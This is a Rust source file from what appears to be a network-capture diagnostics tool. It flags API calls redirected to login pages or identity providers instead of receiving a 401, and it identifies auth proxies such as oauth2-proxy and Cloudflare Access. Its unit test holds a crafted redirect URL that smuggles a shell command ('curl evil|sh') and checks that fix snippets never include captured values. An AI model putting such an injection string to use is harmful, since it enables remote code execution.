//! `cors-redirect-to-login` and `auth-proxy-redirects-api`: an API call answered with a redirect
//! to a login page or an identity provider instead of a 401, and the identity-aware proxy that
//! did it. The hosts and paths that mean "a login page" live here with the rule.

use super::context::Ctx;
use super::cors;
use crate::catalogue::FindingId;
use crate::fetch;
use crate::finding::{Finding, Fix};
use crate::headers::set_cookie;
use crate::model::Exchange;
use crate::signals::{FetchDest, FetchMode};
use url::Url;

/// Identity providers whose hosts mean "a login page" (host suffix, product name).
const IDP_HOSTS: &[(&str, &str)] = &[
    ("login.microsoftonline.com", "Microsoft Entra ID"),
    ("login.microsoft.com", "Microsoft Entra ID"),
    ("login.live.com", "Microsoft account"),
    ("b2clogin.com", "Azure AD B2C"),
    ("accounts.google.com", "Google"),
    ("cloudflareaccess.com", "Cloudflare Access"),
    ("amazoncognito.com", "Amazon Cognito"),
    ("okta.com", "Okta"),
    ("oktapreview.com", "Okta"),
    ("auth0.com", "Auth0"),
    ("onelogin.com", "OneLogin"),
    ("pingone.com", "PingOne"),
    ("duosecurity.com", "Duo"),
];

/// Why `u` looks like a login page or an identity provider, if it does.
fn login_target(u: &Url) -> Option<String> {
    let host = u.host_str()?.to_ascii_lowercase();
    for (h, name) in IDP_HOSTS {
        if host == *h || host.ends_with(&format!(".{h}")) {
            return Some(format!("{name} ({host})"));
        }
    }
    let path = u.path().to_ascii_lowercase();
    if path.contains("/oauth2/")
        || path.contains("/openid-connect/auth")
        || path.contains("/adfs/ls")
        || path.contains("/.auth/login")
    {
        return Some(format!("an OAuth/OIDC sign-in endpoint ({host}{})", u.path()));
    }
    if path.split('/').any(crate::signals::is_login_segment) {
        return Some(format!("a login page ({host}{})", u.path()));
    }
    let q = u.query().unwrap_or("").to_ascii_lowercase();
    if q.contains("samlrequest=") || (q.contains("redirect_uri=") && q.contains("response_type=")) {
        return Some(format!("an identity provider's authorization request ({host})"));
    }
    None
}

/// Signatures of identity-aware proxies on a redirect hop (`auth-proxy-redirects-api`).
fn auth_proxy_signature(hop: &Exchange<'_>, target: &Url) -> Option<&'static str> {
    let host = target.host_str().unwrap_or("").to_ascii_lowercase();
    let path = target.path().to_ascii_lowercase();
    let set_names = hop.response_headers.set_cookie_lines().filter_map(|l| set_cookie::parse(l).ok()).map(|c| c.name);
    let sent_names = hop.request_headers.cookie_pairs().into_iter().map(|p| p.name.to_string());
    let cookie_names = set_names.chain(sent_names).collect::<Vec<_>>();
    let has_cookie = |prefix: &str| cookie_names.iter().any(|n| n.starts_with(prefix));
    if host.ends_with("cloudflareaccess.com") || has_cookie("CF_Authorization") {
        return Some("Cloudflare Access");
    }
    if has_cookie("AWSELBAuthSessionCookie")
        || hop.response_headers.get("server").is_some_and(|s| s.to_ascii_lowercase().starts_with("awselb"))
    {
        return Some("AWS ALB authentication");
    }
    if has_cookie("_oauth2_proxy") || path.starts_with("/oauth2/start") || path.starts_with("/oauth2/sign_in") {
        return Some("oauth2-proxy");
    }
    if has_cookie("_pomerium") || path.starts_with("/.pomerium") {
        return Some("Pomerium");
    }
    if has_cookie("authelia_session") || host.starts_with("auth.") && path.is_empty() {
        return Some("Authelia");
    }
    if has_cookie("GCP_IAP")
        || host == "accounts.google.com" && hop.response_headers.has("x-goog-iap-generated-response")
    {
        return Some("Google IAP");
    }
    None
}

/// `cors-redirect-to-login` (and `auth-proxy-redirects-api`) — RFC 9110 §15.5.2 (401 is the
/// answer for missing credentials); Fetch #http-redirect-fetch (tainted origin).
pub(super) fn cors_redirect_to_login(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) {
    // The last captured hop of the chain carries the finding.
    if ctx.corr.redirected_to.get(ctx.index).copied().flatten().is_some() {
        return;
    }
    let mut chain = ctx.redirect_hops();
    chain.push((ctx.index, ctx.ex));
    let Some((first_i, first)) = chain.first().copied() else {
        return;
    };
    let api = ctx.is_api_call()
        || matches!(ctx.mode, Some(FetchMode::Cors | FetchMode::SameOrigin)) && ctx.dest == Some(FetchDest::Empty);
    if !api {
        return;
    }
    let Some((hop_i, hop, target, reason)) = chain.iter().find_map(|(i, h)| {
        if !(300..400).contains(&h.status) {
            return None;
        }
        let t = fetch::location_url(h)?;
        let r = login_target(&t)?;
        Some((*i, *h, t, r))
    }) else {
        return;
    };
    let Some(init) = ctx.initiator.as_ref().map(|u| u.origin()) else {
        return;
    };
    let api_origin = Url::parse(&first.url).map(|u| u.origin()).ok();
    let crosses = api_origin.as_ref().is_some_and(|o| *o != init) || target.origin() != init;
    if !crosses {
        return; // same-origin login redirects are `login-redirect-for-api`.
    }
    let end = if ctx.ex.status == 0 || ctx.ex.error.is_some() {
        "the browser blocked the redirected request (CORS error)".to_string()
    } else if (300..400).contains(&ctx.ex.status) {
        "the script gets a CORS error once the browser follows it".to_string()
    } else {
        format!("the script got {} from the login page instead of JSON", ctx.ex.status)
    };
    let explanation = format!(
        "This API call to {} was answered {} with a redirect to {reason} instead of a 401. The auth layer treats the \
         call like a page load, typically because the session expired. The login page does not send CORS headers for \
         {}, and after a cross-origin redirect the browser sends `Origin: null`; {end}. The app sees a CORS error or \
         \"Unexpected token <\" instead of a clean 401.",
        first.url,
        hop.status,
        init.ascii_serialization()
    );
    let fix = Fix::new("Return 401 (not a redirect) for API and XHR requests; let the app send the user to log in with a top-level navigation.")
        .step("Exempt API paths from the login redirect, or make the auth layer answer 401 when the request is not a navigation (Sec-Fetch-Mode: cors, Accept: application/json).")
        .step("In the app, on 401 do `window.location = loginUrl` (a top-level navigation).")
        .snippet("spring", "http.exceptionHandling(e -> e.defaultAuthenticationEntryPointFor(\n    new HttpStatusEntryPoint(HttpStatus.UNAUTHORIZED),\n    new AntPathRequestMatcher(\"/api/**\")));")
        .snippet("aspnet", "builder.Services.ConfigureApplicationCookie(o => {\n    o.Events.OnRedirectToLogin = ctx => { ctx.Response.StatusCode = 401; return Task.CompletedTask; };\n});")
        .snippet("yaml", "# AWS ALB listener rule for /api/*: answer 401 instead of redirecting\nAuthenticateOidcConfig:\n  OnUnauthenticatedRequest: deny")
        .snippet("js", "// oauth2-proxy answers 401 to requests that send Accept: application/json\nfetch(url, { headers: { Accept: 'application/json' }, credentials: 'include' })");
    let mut x = Finding::new(FindingId::CorsRedirectToLogin, explanation, fix)
        .with("API request", format!("{} {}", first.method, first.url))
        .with("Redirect", format!("{} → {}", hop.status, cors::redact_userinfo(&target)))
        .confidence(90);
    if first_i != ctx.index {
        x = x.related(first_i);
    }
    if hop_i != ctx.index {
        x = x.related(hop_i);
    }
    if let Some(proxy) = auth_proxy_signature(hop, &target) {
        let explanation = format!(
            "The redirect comes from an identity-aware proxy ({proxy}) in front of the API: its session for this \
             browser expired or was never created for the API host, and it answers XHR like a page load. Preflights \
             fail too, because they carry no cookie."
        );
        let fix = Fix::new(format!("Configure {proxy} to answer API calls with 401 and to let preflights through."))
            .step("AWS ALB: a listener rule for /api/* with authenticate-oidc and OnUnauthenticatedRequest: deny.")
            .step("oauth2-proxy: --skip-auth-preflight=true, and clients send Accept: application/json.")
            .step("Cloudflare Access: enable CORS settings / OPTIONS bypass and call with credentials: 'include' so CF_Authorization is sent.")
            .step("On 401 the SPA navigates the top-level window to log in.")
            .snippet("shell", "oauth2-proxy --skip-auth-preflight=true …");
        let mut p =
            Finding::new(FindingId::AuthProxyRedirectsApi, explanation, fix).with("Proxy", proxy).confidence(85);
        p.related = x.related.clone();
        out.push(p);
    }
    out.push(x);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::correlate::Correlation;
    use crate::model::{Capture, Header, Headers};
    use std::borrow::Cow;

    /// The snippets hold no capture value, so a hostile login URL cannot reach them.
    #[test]
    fn hostile_redirect_stays_out_of_the_snippets() {
        let location = "https://login.microsoftonline.com/x/oauth2/authorize?q=';curl evil|sh;echo '\"$host";
        let ex = Exchange {
            method: Cow::Borrowed("GET"),
            url: Cow::Borrowed("https://api.example.net/v1/me"),
            status: 302,
            request_headers: Headers(vec![
                Header::new("Origin", "https://app.example.com"),
                Header::new("Sec-Fetch-Mode", "cors"),
                Header::new("Sec-Fetch-Dest", "empty"),
            ]),
            response_headers: Headers(vec![Header::new("Location", location)]),
            page_url: Some(Cow::Borrowed("https://app.example.com/")),
            resource_type: Some(Cow::Borrowed("fetch")),
            ..Default::default()
        };
        let cap = Capture { exchanges: vec![ex], ..Default::default() };
        let corr = Correlation::build(&cap);
        let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
        let mut out = Vec::new();
        cors_redirect_to_login(&ctx, &mut out);
        assert!(out.iter().any(|f| f.id == FindingId::CorsRedirectToLogin), "{out:?}");
        for s in out.iter().flat_map(|f| &f.fix.snippets) {
            assert!(!s.code.contains("evil") && !s.code.contains("microsoftonline"), "{}", s.code);
        }
    }
}
